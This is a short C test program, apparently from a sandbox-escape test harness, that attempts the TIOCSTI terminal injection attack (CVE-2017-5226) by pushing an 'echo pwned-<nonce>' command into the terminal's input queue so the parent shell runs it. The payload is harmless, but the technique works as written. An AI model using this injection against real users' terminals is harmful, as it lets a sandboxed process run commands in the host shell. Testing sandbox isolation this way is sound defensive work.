/* TIOCSTI terminal injection (CVE-2017-5226, bubblewrap): a process that
 * shares its parent's terminal pushes characters into its input queue;
 * when the container exits, the parent's shell reads and runs them.  The
 * host hands it a pty of its own (never a user's terminal) as stdin. */
#include "attack.h"

#include <sys/ioctl.h>

int main(int argc, char **argv)
{
	bxa_init(argc, argv, 0, "");
	char cmd[64];
	snprintf(cmd, sizeof cmd, "echo pwned-%s\n", bxa_nonce);
	for (const char *c = cmd; *c; c++)
		if (ioctl(0, TIOCSTI, c) < 0)
			return bxa_fail("ioctl(0, TIOCSTI)");
	bxa_claim(1, "pushed \"echo pwned-%s\" into the terminal's input", bxa_nonce);
	return 0;
}
